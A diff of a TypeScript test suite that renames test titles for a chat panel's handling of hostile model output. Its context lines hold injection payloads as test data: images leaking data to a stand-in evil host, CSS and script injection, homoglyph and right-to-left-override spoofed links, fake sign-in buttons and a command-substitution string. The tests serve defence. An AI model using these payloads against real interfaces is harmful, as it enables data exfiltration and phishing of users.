@@ -97,7 +97,7 @@ describe('hostile text in the chat', () => {
     for (let at = 0; at < (await dead.count()); at++) await dead.nth(at).click();
   }
 
-  it('shows no image, whatever its form', async () => {
+  it('shows no image, in any syntax', async () => {
     await hear(
       `![inline](${EVIL}/1?d=secret) ![](//evil.example/2) ![by reference][r] ![r] ![titled](${EVIL}/3 "t")\n\n`,
       `[![in a link](${EVIL}/4)](${EVIL}/5)\n\n| a |\n|---|\n| ![cell](${EVIL}/6) |\n\n- ![item](<${EVIL}/7 8>)\n\n`,
@@ -111,7 +111,7 @@ describe('hostile text in the chat', () => {
     await shot(world.ui.page, 'chat-hostile-images');
   });
 
-  it('loads nothing by a style', async () => {
+  it('loads nothing through styles', async () => {
     await hear(
       `<style>body { background: url(${EVIL}/1) } @import "${EVIL}/2"; @font-face { src: url(${EVIL}/3) }</style>\n\n`,
       `<div style="background:url(${EVIL}/4)">a</div> <link rel="stylesheet" href="${EVIL}/5"><link rel=prefetch href="${EVIL}/6">\n\n`,
@@ -143,7 +143,7 @@ describe('hostile text in the chat', () => {
     await clickDeadLinks();
   });
 
-  it('runs nothing of HTML or SVG', async () => {
+  it('runs no script in HTML or SVG', async () => {
     await hear(
       '<script>document.body.remove()</script> <svg onload=alert(1)><animate onbegin=alert(1)></svg> <iframe srcdoc="<script>alert(1)</script>"></iframe>\n\n',
       `<form action="${EVIL}"><button>Send</button><input autofocus onfocus=alert(1)></form> <base href="${EVIL}"> <meta http-equiv=refresh content="0;url=${EVIL}">\n\n`,
@@ -153,7 +153,7 @@ describe('hostile text in the chat', () => {
     assert.match((await body().textContent()) ?? '', /<script>document\.body\.remove\(\)<\/script>/);
   });
 
-  it('says where a link really leads', async () => {
+  it('shows the real host of a link', async () => {
     await hear(
       `[https://google.com](https://g\u043e\u043egle.com/) <https://\u0430pple.com/> [bank.example](https://bank.example@evil.example/)\n\n`,
       `[https://bank.example/${RLO}moc](https://evil.example/a) [https://bank.example\u200b](https://bank.example.evil.example/)`,
@@ -180,7 +180,7 @@ describe('hostile text in the chat', () => {
     await shot(world.ui.page, 'chat-hostile-links');
   });
 
-  it('lets no answer look like the panel: its buttons, errors and messages are text', async () => {
+  it('shows imitated buttons, errors and messages as text', async () => {
     await hear(
       '<chat-problem></chat-problem><div class="problem" role="alert"><button data-action="signIn">Sign In</button></div>\n\n',
       '> **The service refused the API key.** [Sign In](command:switchyard.signIn)\n\n',
@@ -194,7 +194,7 @@ describe('hostile text in the chat', () => {
     await shot(world.ui.page, 'chat-hostile-imitation');
   });
 
-  it('bears giant tables, endless lines and endless nesting, and stays usable', async () => {
+  it('stays usable with huge tables, long lines and deep nesting', async () => {
     const row = (cell: string) => `|${`${cell}|`.repeat(200)}\n`;
     await hear(row('a') + row('-'), ...Array.from({ length: 100 }, () => row('b')));
     await isText();
@@ -208,7 +208,7 @@ describe('hostile text in the chat', () => {
     await message().fill('');
   });
 
-  it('shows the names of models, chats and files, and what went wrong, as they are', async () => {
+  it('shows names of models, chats and files, and error messages, as plain text', async () => {
     const evil = `<img src="${EVIL}/name" onerror=alert(1)>[x](command:workbench.action.quit)${RLO}$(zap)`;
     const records = [
       { kind: 'title', text: evil },
@@ -237,7 +237,7 @@ describe('hostile text in the chat', () => {
     await shot(world.ui.page, 'chat-hostile-names');
   });
 
-  it('has a policy without a hole; the witnesses of these tests would have seen one', async () => {
+  it('has a strict content security policy, and these tests detect violations', async () => {
     const policy = await chat.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
     const directives = new Map((policy ?? '').split('; ').map((one) => [one.split(' ')[0], one.split(' ').slice(1)]));
     assert.deepEqual(directives.get('default-src'), ["'none'"]);
